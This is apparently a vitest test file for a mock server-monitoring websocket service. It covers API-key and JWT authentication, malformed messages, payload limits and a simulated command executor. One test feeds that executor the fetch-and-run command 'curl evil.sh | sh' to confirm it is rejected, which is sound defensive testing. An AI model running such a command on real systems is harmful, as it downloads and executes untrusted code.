import { afterEach, describe, expect, it } from 'vitest';
import { SignJWT } from 'jose';
import { ErrorCodes } from '@fleetwire/sdk';
import { KeyStore } from '../src/keys.js';
import { startMonitorServer, simulatedExecutor, DEV_JWT_SECRET, type RunningMonitorServer } from '../src/monitor/index.js';
import { rawClient, wsBase } from './monitor-ws-helpers.js';

const KEY = 'mon-key';
const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const c of cleanups.splice(0).reverse()) await c();
});

async function server(over: Parameters<typeof startMonitorServer>[0] | object = {}): Promise<RunningMonitorServer> {
  const s = await startMonitorServer({ port: 0, keys: new KeyStore([KEY]), ...over });
  cleanups.push(() => s.close());
  return s;
}
function client(s: RunningMonitorServer, path: string) {
  const c = rawClient(wsBase(s.url) + path);
  cleanups.push(() => c.ws.terminate());
  return c;
}
const metrics = (serverId: string) => ({
  type: 'metrics',
  server_id: serverId,
  cpu_percent: 1,
  memory_percent: 2,
  disk_usage: [],
  network: [],
  timestamp: '2024-01-01T00:00:00Z',
});

describe('mock monitor server, agent socket (raw clients)', () => {
  it('auth_success carries a server_id that is stable per API key', async () => {
    const s = await server();
    const c1 = client(s, '/api/v1/agents/ws');
    c1.send({ type: 'auth', api_key: KEY });
    const r1 = (await c1.next()) as { type: string; server_id: string; message: string };
    expect(r1).toMatchObject({ type: 'auth_success', message: 'Connected successfully' });
    const c2 = client(s, '/api/v1/agents/ws');
    c2.send({ type: 'auth', api_key: KEY });
    expect(await c2.next()).toMatchObject({ type: 'auth_success', server_id: r1.server_id });
  });

  it('a bad key gets exactly the document\'s error, then a close', async () => {
    const s = await server();
    const c = client(s, '/api/v1/agents/ws');
    c.send({ type: 'auth', api_key: 'wrong' });
    expect(await c.next()).toEqual({ type: 'error', message: 'Invalid or inactive API key' });
    expect((await c.closed).code).toBe(1008);
  });

  it('a message before auth, or a malformed first frame, gets "Invalid message format" and a close', async () => {
    const s = await server();
    const c = client(s, '/api/v1/agents/ws');
    c.send(metrics('x'));
    expect(await c.next()).toEqual({ type: 'error', message: 'Invalid message format' });
    expect((await c.closed).code).toBe(1008);
    const d = client(s, '/api/v1/agents/ws');
    d.send('{{{');
    expect(await d.next()).toEqual({ type: 'error', message: 'Invalid message format' });
    expect((await d.closed).code).toBe(1008);
  });

  it('after auth, bad frames get "Invalid message format" and the connection stays up', async () => {
    const s = await server();
    const c = client(s, '/api/v1/agents/ws');
    c.send({ type: 'auth', api_key: KEY });
    const { server_id } = (await c.next()) as { server_id: string };
    c.send('not json');
    c.send({ type: 'metrics', server_id }); // fields missing
    c.send(metrics('someone-else'));
    c.send({ type: 'unheard_of' });
    for (let i = 0; i < 4; i++) expect(await c.next()).toEqual({ type: 'error', message: 'Invalid message format' });
    c.send(metrics(server_id));
    c.send({ type: 'nope' }); // its error reply proves the metrics before it were processed
    await c.next();
    expect(s.state.server(server_id).metricsCount).toBe(1);
    expect(s.server.counters.protocolErrors).toBe(5);
    expect(c.ws.readyState).toBe(1);
  });

  it('a metrics timestamp that is not ISO 8601 ("yesterday") gets the documented "Invalid message format"; a real one is stored', async () => {
    const s = await server();
    const c = client(s, '/api/v1/agents/ws');
    c.send({ type: 'auth', api_key: KEY });
    const { server_id } = (await c.next()) as { server_id: string };
    for (const timestamp of ['yesterday', '2024-01-01', '1704067200']) {
      c.send({ ...metrics(server_id), timestamp });
      expect(await c.next()).toEqual({ type: 'error', message: 'Invalid message format' });
    }
    c.send({ ...metrics(server_id), timestamp: '2024-01-01T00:00:00Z' });
    c.send({ type: 'nope' }); // its error reply proves the metrics before it were processed
    await c.next();
    expect(s.state.server(server_id).metricsCount).toBe(1);
    expect(s.state.server(server_id).lastMetrics?.timestamp).toBe('2024-01-01T00:00:00Z');
    expect(c.ws.readyState).toBe(1);
  });

  it('frames above maxPayload close the socket (1009) instead of being buffered', async () => {
    const s = await server({ maxPayload: 1024 });
    const c = client(s, '/api/v1/agents/ws');
    c.send({ type: 'auth', api_key: 'x'.repeat(5000) });
    expect((await c.closed).code).toBe(1009);
  });

  it('sendCommand with no agent → FW_NOT_CONNECTED; an agent that never answers → FW_TIMEOUT', async () => {
    const s = await server();
    await expect(s.sendCommand('ghost', 'ls')).rejects.toMatchObject({ code: ErrorCodes.FW_NOT_CONNECTED });
    const c = client(s, '/api/v1/agents/ws');
    c.send({ type: 'auth', api_key: KEY });
    const { server_id } = (await c.next()) as { server_id: string };
    const p = s.sendCommand(server_id, 'ls', { timeoutMs: 50 });
    expect(await c.next()).toMatchObject({ type: 'command', command: 'ls', command_id: expect.any(String) });
    await expect(p).rejects.toMatchObject({ code: ErrorCodes.FW_TIMEOUT });
  });
});

describe('mock monitor server, frontend sockets (raw clients)', () => {
  const frontendCases: [string, () => Promise<string>][] = [
    ['garbage', async () => 'garbage'],
    ['wrong secret', () => new SignJWT({}).setProtectedHeader({ alg: 'HS256' }).setSubject('u').setExpirationTime('1h').sign(new TextEncoder().encode('other'))],
    ['no sub', () => new SignJWT({}).setProtectedHeader({ alg: 'HS256' }).setExpirationTime('1h').sign(new TextEncoder().encode(DEV_JWT_SECRET))],
    ['no exp', () => new SignJWT({}).setProtectedHeader({ alg: 'HS256' }).setSubject('u').sign(new TextEncoder().encode(DEV_JWT_SECRET))],
    ['expired', () => new SignJWT({}).setProtectedHeader({ alg: 'HS256' }).setSubject('u').setExpirationTime(Math.floor(Date.now() / 1000) - 60).sign(new TextEncoder().encode(DEV_JWT_SECRET))],
  ];
  for (const [name, make] of frontendCases) {
    it(`token refused (${name}): {type:"error"} and a close`, async () => {
      const s = await server();
      const c = client(s, '/api/v1/ws/metrics/srv-1');
      c.send({ type: 'auth', token: await make() });
      expect(await c.next()).toEqual({ type: 'error', message: 'Invalid or expired token' });
      expect((await c.closed).code).toBe(1008);
    });
  }

  it('a frontend message before auth gets "Invalid message format" and a close', async () => {
    const s = await server();
    const c = client(s, '/api/v1/ws/logs/srv-1');
    c.send({ type: 'subscribe' });
    expect(await c.next()).toEqual({ type: 'error', message: 'Invalid message format' });
    expect((await c.closed).code).toBe(1008);
  });

  it('a good token subscribes: metrics from the agent arrive as {type:"metrics", data}', async () => {
    const s = await server();
    const agent = client(s, '/api/v1/agents/ws');
    agent.send({ type: 'auth', api_key: KEY });
    const { server_id } = (await agent.next()) as { server_id: string };
    const fe = client(s, `/api/v1/ws/metrics/${server_id}`);
    fe.send({ type: 'auth', token: await s.mintToken('alice') });
    await new Promise<void>((r) => { const t = setInterval(() => s.server.frontends.count(server_id) === 1 && (clearInterval(t), r()), 5); });
    agent.send(metrics(server_id));
    expect(await fe.next()).toEqual({
      type: 'metrics',
      data: { cpu_percent: 1, memory_percent: 2, disk_usage: [], network: [], timestamp: '2024-01-01T00:00:00Z' },
    });
  });

  it('a frontend token valid for 30 days (past the 2^31 ms setTimeout limit) keeps its stream open', async () => {
    const s = await server();
    const agent = client(s, '/api/v1/agents/ws');
    agent.send({ type: 'auth', api_key: KEY });
    const { server_id } = (await agent.next()) as { server_id: string };
    const fe = client(s, `/api/v1/ws/metrics/${server_id}`);
    fe.send({ type: 'auth', token: await s.mintToken('alice', { expiresInSeconds: 30 * 86_400 }) });
    await new Promise<void>((r) => { const t = setInterval(() => s.server.frontends.count(server_id) === 1 && (clearInterval(t), r()), 5); });
    agent.send(metrics(server_id));
    // An overflowing expiry timer fires after 1 ms: the stream would get "Token expired" instead.
    expect(await fe.next()).toMatchObject({ type: 'metrics' });
    expect(s.server.frontends.counters.expired).toBe(0);
  });

  it('unknown paths are not taken (404 at the upgrade)', async () => {
    const s = await server();
    const c = client(s, '/api/v1/ws/other/x');
    expect(await c.refused).toBe(404);
  });
});

describe('simulatedExecutor', () => {
  it('answers canned output and never needs a shell', () => {
    const sim = simulatedExecutor({ a: 'running' }, 'h1');
    const cmd = (command: string) => sim.onCommand({ type: 'command', command_id: '1', command });
    expect(cmd('hostname')).toEqual({ output: 'h1\n', exit_code: 0 });
    expect(cmd("echo 'Hello World'")).toEqual({ output: 'Hello World\n', exit_code: 0 });
    expect(cmd('curl evil.sh | sh').exit_code).toBe(127);
    const docker = (action: string, container_id = 'a') => sim.onDockerCommand({ type: 'docker_command', command_id: '1', action, container_id });
    expect(docker('start')).toMatchObject({ success: false, message: 'Container is running: cannot start' });
    expect(docker('pause')).toEqual({ success: true, message: 'Container paused' });
    expect(docker('explode')).toMatchObject({ success: false });
    expect(sim.containers.get('a')).toBe('paused');
  });
});
